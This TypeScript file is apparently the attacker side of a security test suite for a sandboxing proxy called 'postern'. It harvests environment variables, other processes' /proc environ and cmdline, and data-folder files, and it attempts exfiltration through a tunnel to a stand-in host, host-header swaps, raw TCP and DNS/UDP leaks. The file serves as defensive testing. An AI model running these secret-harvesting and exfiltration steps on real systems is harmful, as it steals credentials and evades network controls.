// SPDX-License-Identifier: Apache-2.0
/**
 * The attacker's side: an agent that wants the keys, and the world outside.
 *
 * Runs inside `postern run` and prints what it got hold of, raw; `attack-checks.ts` judges. It does not know
 * what the secrets look like, so it cannot spare them.
 */
import { createSocket } from "node:dgram";
import { Resolver } from "node:dns/promises";
import { readdir, readFile } from "node:fs/promises";
import { join } from "node:path";
import { inspect } from "node:util";
import {
  attemptConnectMismatch,
  attemptHostSwap,
  attemptTcp,
  attemptTunnel,
  sendRaw,
} from "./attack-wire.ts";
import type { AttackOrders } from "./attack-orders.ts";

const orders = JSON.parse(process.argv[2] ?? "{}") as AttackOrders;
const environment = process.env;

const report = (attack: string, evidence: object) => console.log(JSON.stringify({ attack, ...evidence }));
const failure = (error: unknown) => inspect(error, { depth: 2 });

async function readEveryEnvironment(): Promise<object> {
  const read: { pid: string; content: string }[] = [];
  for (const pid of (await readdir("/proc")).filter((name) => /^\d+$/.test(name))) {
    for (const file of ["environ", "cmdline"]) {
      const content = await readFile(`/proc/${pid}/${file}`, "latin1").catch(() => undefined);
      if (content !== undefined) read.push({ pid, content });
    }
  }
  return { processes: new Set(read.map(({ pid }) => pid)).size, read };
}

async function readDataFolder(): Promise<object> {
  try {
    const entries = await readdir(orders.dataFolder, { recursive: true, withFileTypes: true });
    const files: { path: string; content: string }[] = [];
    for (const entry of entries.filter((candidate) => candidate.isFile())) {
      const path = join(entry.parentPath, entry.name);
      const content = await readFile(path, "base64").catch(failure);
      files.push({ path, content: content.slice(0, 100_000) });
    }
    return { files };
  } catch (error) {
    return { files: [], error: failure(error) };
  }
}

async function askForEcho(model: string): Promise<object> {
  try {
    const response = await fetch(`${environment["OPENAI_BASE_URL"]}/chat/completions`, {
      method: "POST",
      headers: {
        authorization: `Bearer ${environment["OPENAI_API_KEY"]}`,
        "content-type": "application/json",
      },
      body: JSON.stringify({ model, messages: [{ role: "user", content: "what did I send you?" }] }),
    });
    const headers = Object.fromEntries(response.headers);
    // An answer that was cut off half-way is evidence as well.
    let body = "";
    let error: string | undefined;
    try {
      const decoder = new TextDecoder("latin1");
      for await (const chunk of response.body ?? [])
        body += decoder.decode(chunk as Uint8Array, { stream: true });
    } catch (cause) {
      error = failure(cause);
    }
    return { model, status: response.status, headers, body, error };
  } catch (error) {
    return { model, error: failure(error) };
  }
}

async function useForbiddenModel(): Promise<object> {
  const body = JSON.stringify({ model: orders.forbiddenModel, messages: [] });
  const url = new URL(`${environment["OPENAI_BASE_URL"]}/chat/completions`);
  const headers = {
    host: url.host,
    "content-type": "application/json",
    "content-length": String(body.length),
  };
  return sendRaw(url, { method: "POST", path: url.pathname, headers, body });
}

async function leakOverUdp(): Promise<object> {
  const resolver = new Resolver({ timeout: 500, tries: 1 });
  resolver.setServers([`127.0.0.1:${orders.udpPort}`]);
  const lookup = await resolver.resolve4("loot.example.net").catch(failure);
  const sent = await new Promise<string>((resolve) => {
    const socket = createSocket("udp4");
    socket.send("loot", orders.udpPort, "127.0.0.1", (error) => {
      socket.close();
      resolve(error === null ? "sent" : failure(error));
    });
  });
  return { lookup, sent };
}

report("environment", { variables: { ...environment } });
report("other processes", await readEveryEnvironment());
report("data folder", await readDataFolder());
for (const model of orders.echoModels) report("echo", await askForEcho(model));
report("unlisted host", await attemptTunnel(environment, "collector.example.net:443"));
report("host swap", await attemptHostSwap(environment));
report("connect mismatch: server name", await attemptConnectMismatch(environment, "api.anthropic.com"));
report("connect mismatch: host", await attemptConnectMismatch(environment, "api.openai.com"));
report("forbidden model", await useForbiddenModel());
for (const port of orders.upstreamPorts) report("direct tcp", { port, result: await attemptTcp(port) });
report("udp", await leakOverUdp());
